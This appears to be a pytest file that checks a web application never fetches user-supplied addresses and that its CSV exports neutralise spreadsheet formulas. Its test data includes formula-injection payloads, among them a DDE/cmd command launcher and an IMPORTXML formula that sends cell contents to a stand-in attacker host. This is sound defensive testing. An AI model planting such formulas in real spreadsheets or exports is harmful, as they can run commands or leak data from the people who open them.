"""No text makes the server ask for anything: there is no place where an address is fetched that somebody gave."""

from __future__ import annotations

import ast
import csv
import socket
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from admin.sheets import plain
from engine.data.models import Voice
from engine.data.store import EVERYTHING
from engine.house import Engine
from engine.operations.forms import open_form
from engine.operations.invitations import Stationery, write_invitation
from engine.operations.planning import plan_asks
from tests.conftest import NOW
from tests.desk import ADMIN, furnish, sign_in
from tests.factories import make_account, make_contact, make_touchpoint
from tests.hostile_urls import URLS
from tests.letters import make_history, make_letter, make_survey, promises_path, survey_path, wishes_path

ROOT = Path(__file__).parent.parent
FETCHING = {"urllib.request", "http.client", "requests", "httpx", "aiohttp", "urllib3", "ftplib", "xmlrpc", "telnetlib"}
TALKING = FETCHING | {"socket", "smtplib", "ssl", "imaplib", "poplib"}
MAY_TALK = {
    "engine/mail.py": "to the mail server that the house names",
    "plugins/email.py": "the same",
    "engine/cli/serve.py": "it listens",
    "engine/cli/demo/catcher.py": "the demo's own mail server",
    "engine/cli/demo/stage.py": "the demo's own server",
    "engine/cli/demo/visitor.py": "the same",
}
"""Files that open a connection, and to whom. Another one that would fetch what it is given needs tests of its own."""


def test_there_are_sixty_and_more() -> None:
    assert len(set(URLS)) >= 60


def test_nothing_but_mail_and_the_demo_opens_a_connection() -> None:
    found = {}
    for file in [path for part in ("engine", "admin", "plugins") for path in (ROOT / part).rglob("*.py")]:
        used = {name for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))) for name in _imported(node)}
        if used & TALKING:
            found[str(file.relative_to(ROOT))] = used & TALKING
    assert set(found) <= set(MAY_TALK), found
    fetching = {name for name, used in found.items() if used & FETCHING}
    assert {name for name in fetching if "demo" not in name} == set()


def _imported(node: ast.AST) -> list[str]:
    if isinstance(node, ast.Import):
        return [each.name for each in node.names]
    if isinstance(node, ast.ImportFrom) and node.module:
        return [node.module, *(f"{node.module}.{each.name}" for each in node.names)]
    return []


@pytest.fixture
def reached(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Whom Python tried to reach, or to look up."""
    found: list[Any] = []

    def refuse(*where: Any, **_more: Any) -> None:
        found.append(where)
        raise OSError("nothing is to be reached here")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    return found


def test_an_address_in_any_text_is_not_fetched(
    engine: Engine, client: FlaskClient, site: Flask, reached: list[Any]
) -> None:
    site.config["WTF_CSRF_ENABLED"] = False
    furnish(engine)
    for start in range(0, len(URLS), 10):
        text = " ".join(URLS[start : start + 10])
        paths, ask = _somebody(engine, text)
        for path in paths:
            assert client.get(path).status_code == 200
        data = {"q1.text": text, "submission_id": f"submission-{start}"}
        assert client.post(paths[0], data=data).status_code == 303
        message = write_invitation(Stationery(engine.config, "a secret of the tests"), open_form(engine, ask), 1)
        assert message.html is not None
        assert "<img" not in message.html
    _import(sign_in(site.test_client(), engine, ADMIN))
    plan_asks(engine)
    assert reached == []


def _somebody(engine: Engine, text: str) -> tuple[list[str], str]:
    words = {"en": text}
    question = {"name": "words", "type": "text", "ask": words}
    with engine.store.write(EVERYTHING) as session:
        account = make_account(session, name=text, attributes={"website": text, "logo": text}, plan_on=NOW.date())
        contact = make_contact(session, account, name=text, attributes={"photo": text})
        make_history(session, contact, ("agreed", "2026-10-01", text), title=text, said=text)
        make_touchpoint(session, contact, note=text)
        who = {"account_id": account.id, "contact_id": contact.id}
        session.add(Voice(**who, source="review", said_at=NOW, words=text, link=text))
        survey = make_survey(session, [question], survey="addresses", title=words, intro=words)
        path = survey_path(engine, make_letter(session, contact=contact, survey=survey, personal_note=text))
        paths = [
            path,
            promises_path(engine, contact),
            wishes_path(engine, contact),
            f"{wishes_path(engine, contact)}/data",
        ]
    return paths, path.removeprefix("/s/")


def _import(admin: FlaskClient) -> None:
    for name, head in (("accounts.csv", "key,name,website"), ("voices.csv", "account,text,said_at,link")):
        rows = "\n".join([head, *(f"a{number},{url},{url},{url}" for number, url in enumerate(URLS))])
        data = {"file": (BytesIO(rows.encode()), name), "action": "import"}
        assert admin.post("/admin/imports", data=data, content_type="multipart/form-data").status_code < 500


# What a spreadsheet would work out

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "|=1+1",
    "a;=1+1", "a;\t=1+1", "a\n=1+1",
    'a";=1+1', "a\r\n=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "@=1+1", "=-1", "--1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "+49-30;=1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("parted", [",", ";", "\t"])
def test_no_cell_of_a_sheet_begins_a_formula(formula: str, parted: str) -> None:
    line = ",".join(['"' + plain(cell).replace('"', '""') + '"' for cell in ("a", formula, "b")])
    cells = [cell for row in csv.reader(line.splitlines(keepends=True), delimiter=parted) for cell in row]
    starts = [cell.lstrip(' \t\r\n\0\ufeff\u00a0"')[:1] for cell in cells]
    assert not set(starts) & set("=+-@＝＋－＠"), cells


@pytest.mark.parametrize("number", ["-3", "+4", "2.5", "-0,5", "17"])
def test_a_number_stays_one(number: str) -> None:
    assert plain(number) == number
